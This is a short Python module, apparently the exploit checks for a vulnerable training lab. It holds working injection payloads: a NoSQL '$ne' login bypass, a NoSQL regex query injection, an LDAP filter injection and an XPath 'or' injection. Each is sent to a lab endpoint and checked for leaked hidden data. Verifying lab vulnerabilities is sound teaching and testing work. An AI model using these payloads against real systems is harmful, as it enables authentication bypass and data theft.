"""Exploits of query languages other than SQL."""

from lab.client import Lab


async def _nosql_json(lab: Lab) -> bool:
    content = {"username": "bob", "password": {"$ne": ""}}
    return "bob" in (await lab.send("POST", "/api/members/signin", json=content)).text.partition("welcome")[2]


async def _nosql_query(lab: Lab) -> bool:
    return "<td>gold</td>" in (await lab.get("/members", **{"username[$regex]": "^b"})).text


async def _ldap(lab: Lab) -> bool:
    return "999-hidden" in (await lab.get("/phonebook", uid="svc*)(objectClass=account))")).text


async def _xpath(lab: Lab) -> bool:
    return "vault-77" in (await lab.get("/rooms", name="x' or @role='hidden' and '1'='1")).text


PROOFS = {"nosql-json": _nosql_json, "nosql-query": _nosql_query, "ldap": _ldap, "xpath": _xpath}
